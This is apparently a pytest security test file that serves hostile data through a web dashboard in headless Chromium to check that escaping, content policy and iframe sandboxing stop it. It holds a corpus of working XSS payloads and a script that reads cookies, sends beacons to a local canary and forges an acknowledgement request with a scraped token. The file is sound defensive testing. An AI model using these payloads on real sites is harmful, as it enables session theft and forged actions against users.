"""Whatever data holds, nothing of it runs in a real browser; each twin shows that the test would see it."""

import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson
import pages_parts
import pytest
import serving_parts as parts
from browser import CHROMIUM, DRIVER, Browser, browsing
from pages_parts import Words

from data.schema import Category, Number, Schema
from monitoring.store import Store, open_store
from monitoring.store.receipts import Receipt

pytestmark = pytest.mark.skipif(CHROMIUM is None or DRIVER is None, reason="no chromium with chromedriver is installed")

RUNS = "window.top.pwned=1;document.title='pwned';new Image().src='{canary}'"
SCRIPTS = (
    "<script>{run}</script>",
    "</title></style></textarea></script></svg><script>{run}</script>",
    '<img src=x onerror="{run}">',
    '"><svg onload="{run}">',
    '\'><details open ontoggle="{run}">',
    '" autofocus tabindex=1 onfocus="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<iframe src="javascript:{run}"></iframe>',
    '<a href="javascript:{run}" autofocus>x</a>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror="{run}">',
    "&lt;script&gt;{run}&lt;/script&gt; %3Cscript%3E{run}%3C/script%3E \uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u202e<scr\u200bipt>{run}</script> \u2028<script>{run}</script>",
    "<!--><script>{run}</script>--> ]]><script>{run}</script>",
)
MARKUP = (  # needs no script to reach somebody else
    '<img src="{canary}">',
    "<link rel=stylesheet href=\"{canary}\"><style>@import '{canary}';</style>",
    '" style="background:url({canary})',
    '<meta http-equiv=refresh content="0;url={canary}">',
    '<base href="{canary}"><form action="{canary}"><button id=evil autofocus>x</button></form>',
    '<object data="{canary}"></object><embed src="{canary}"><video src="{canary}" autoplay></video>',
)
NO_ESCAPE = "import html\nhtml.escape = lambda text, quote=True: str(text)\n"
NO_POLICY = "import serving.html\nserving.html.HEADERS.clear()\n"
OPEN_REPORTS = NO_POLICY + (
    "import serving.reports, serving.incident_page\n"
    "serving.reports.HEADERS.clear()\n"
    "framed = serving.reports.framed\n"
    "serving.reports.framed = lambda *more, **named: framed(*more, **named).replace('sandbox=', 'data-was=')\n"
)


class Canary:
    """Somebody else's server, which nobody should ask."""

    def __init__(self) -> None:
        asked = self.asked = list[str]()

        class Listener(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *more: Any) -> None: ...

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
        self.url = f"http://127.0.0.1:{self.server.server_port}/stolen"


@pytest.fixture
def canary() -> Iterator[Canary]:
    made = Canary()
    thread = threading.Thread(target=made.server.serve_forever, args=(0.05,))
    thread.start()
    yield made
    made.server.shutdown()
    thread.join()
    made.server.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with browsing() as one:
        yield one


def corpus(canary: Canary, *kinds: tuple[str, ...]) -> list[str]:
    run = RUNS.format(canary=canary.url)
    return [one.replace("{run}", run).replace("{canary}", canary.url) for kind in kinds for one in kind]


def hostile(home: Path, payloads: list[str]) -> int:
    """Put the payloads wherever data can come to stand on a page; return the open incident's id."""
    every = " ".join(payloads)
    opened = pages_parts.history(home, Words(reason=every, column=every))
    levels = Category(levels=(every, payloads[0]))
    schema = Schema(columns={payloads[1]: Number(), "fruit": levels}, target="fruit", key="id")
    parts.point(home, "fruit", 1, parts.classifier(home / "generations" / "fruit" / "1", schema, payloads[1]))
    store = open_store(f"sqlite:///{home / 'holdfast.db'}")
    add_people(store, opened, every)
    store.close()
    (home / "run").mkdir(exist_ok=True)
    broken = {one: {"where": every, "why": every} for one in payloads}
    (home / "run" / "broken.json").write_bytes(orjson.dumps(broken))
    return opened


def add_people(store: Store, opened: int, every: str) -> None:
    now = datetime.now(UTC)
    detail = {"sentence": every, "gain": 0.1, "low": 0.0, "high": 0.2, "rows": 10}
    store.receipts.put(Receipt("prices", "promotion", every, every, 2, now, now, "yes", detail))
    store.ledger.decide(
        "prices", kind="acknowledge", subject=f"incident {opened}", reason=every, inputs={"incident": opened}, now=now
    )


@contextmanager
def town(home: Path, payloads: list[str], mutation: str = "") -> Iterator[tuple[parts.Service, list[str]]]:
    """Serve a hostile home, and tell the addresses of its pages."""
    opened = hostile(home, payloads)
    every = quote(" ".join(payloads)[:2000], safe="")
    command = parts.broken(mutation) if mutation else parts.SERVICE
    pages = ["/", f"/incidents/{opened}", "/incidents", "/projects/prices", "/docs", f"/incidents/{opened}?did={every}"]
    pages += [f"/projects/{quote(payloads[0], safe='')}", f"/incidents/{every}", f"/reports/{every}", f"/{every}"]
    pages += [f"/login?next={every}", f"/v1/prices/predictions/{every}"]
    with parts.serving(home, command=command) as service:
        yield service, pages


def visit(browser: Browser, url: str) -> bool:
    """Open a page, give what it holds the time to run, and tell whether it did."""
    browser.open(url)
    time.sleep(0.15)
    return bool(browser.run("return window.pwned === 1 || document.title === 'pwned'"))


PICTURE = """
const every = [...document.querySelectorAll('*')];
return {
  elements: document.querySelectorAll('script, object, embed, base, link, img, video, iframe[srcdoc]').length,
  handlers: every.flatMap(one => [...one.attributes]).filter(one => /^(on|style)/i.test(one.name)).length,
  links: [...document.links].filter(one => !/^https?:$/.test(one.protocol)).length,
  forms: [...document.forms].filter(one => new URL(one.action).origin !== location.origin).length,
};
"""


def test_nothing_that_data_holds_runs_or_asks_anybody_even_without_the_policy(
    browser: Browser, canary: Canary, tmp_path: Path
) -> None:
    payloads = corpus(canary, SCRIPTS, MARKUP)
    with town(tmp_path, payloads, NO_POLICY) as (service, pages):
        for page in pages:
            assert not visit(browser, service.url + page), page
            if not page.startswith("/v1/"):
                found = browser.run(PICTURE)
                assert found == {"elements": 0, "handlers": 0, "links": 0, "forms": 0}, (page, found)
        browser.open(f"{service.url}/")
        assert payloads[0] in browser.run("return document.body.textContent")  # they are there, as text
    assert canary.asked == []


@pytest.mark.parametrize(
    ("mutation", "runs"),
    [(NO_ESCAPE, False), (NO_ESCAPE + NO_POLICY, True)],
    ids=["policy alone", "neither"],
)
def test_the_policy_holds_even_without_escaping_and_without_both_it_runs(
    browser: Browser, canary: Canary, tmp_path: Path, mutation: str, *, runs: bool
) -> None:
    with town(tmp_path, corpus(canary, SCRIPTS), mutation) as (service, pages):
        ran = [visit(browser, service.url + page) for page in pages[:2]]
    assert any(ran) is runs
    assert bool(canary.asked) is runs


THEFT = """<!doctype html><title>drift report</title><p id="told">a report</p><script>
const tell = word => document.getElementById('told').textContent += ' ' + word;
const steal = what => {{ try {{ what(); }} catch (error) {{ tell(error.name); }} }};
steal(() => tell('cookie:' + document.cookie));
steal(() => tell('parent:' + parent.document.title));
steal(() => {{ top.document.title = 'pwned'; }});
steal(() => {{ top.location = '{canary}?top'; }});
steal(() => window.open('{canary}?popup'));
steal(() => {{ new Image().src = '{canary}?image'; }});
steal(() => navigator.sendBeacon('{canary}?beacon', 'x'));
steal(() => document.body.insertAdjacentHTML('beforeend',
  '<form id=f method=post action="{url}/incidents/{opened}/acknowledge"></form>'));
steal(() => document.getElementById('f').submit());
fetch('/incidents/{opened}').then(answer => answer.text()).then(page => {{
  const token = page.match(/name="token" value="(\\w+)"/)[1];
  return fetch('/incidents/{opened}/acknowledge', {{method: 'POST', body: new URLSearchParams({{token}})}});
}}).catch(() => tell('refused')).finally(() => setTimeout(() => {{ location = '{canary}?away'; }}, 300));
tell('ran');
</script>"""


@pytest.mark.parametrize("mutation", ["", OPEN_REPORTS], ids=["as it is", "without its walls"])
def test_a_reports_scripts_run_and_reach_nothing(
    browser: Browser, canary: Canary, tmp_path: Path, mutation: str
) -> None:
    opened = pages_parts.history(tmp_path, Words())
    command = parts.broken(mutation) if mutation else parts.SERVICE
    with parts.serving(tmp_path, command=command) as service:
        theft = THEFT.format(canary=canary.url, url=service.url, opened=opened)
        (tmp_path / "reports" / "prices" / "2" / "57.html").write_text(theft)
        browser.open(f"{service.url}/incidents/{opened}")  # so that there is a cookie to act with
        browser.open(f"{service.url}/reports/prices/2/57.html")
        time.sleep(1.5)
        at, title = browser.run("return [location.href, document.title]")
        store = open_store(service.store_url)
        incident = store.incidents.get(opened)
        store.close()
        assert incident is not None
        harmed = bool(canary.asked) or title == "pwned" or incident.acknowledged_at is not None
        if mutation:
            assert harmed
            assert canary.asked
            return
        assert not harmed
        assert at == f"{service.url}/reports/prices/2/57.html"
        [address] = re.findall(r'src="(/sandbox/[^"]+)"', browser.run("return document.body.innerHTML"))
        browser.open(service.url + address)  # alone, as who copies the frame's address: a page of ours again
        assert browser.run("return location.pathname") == "/reports/prices/2/57.html"
        assert canary.asked == []
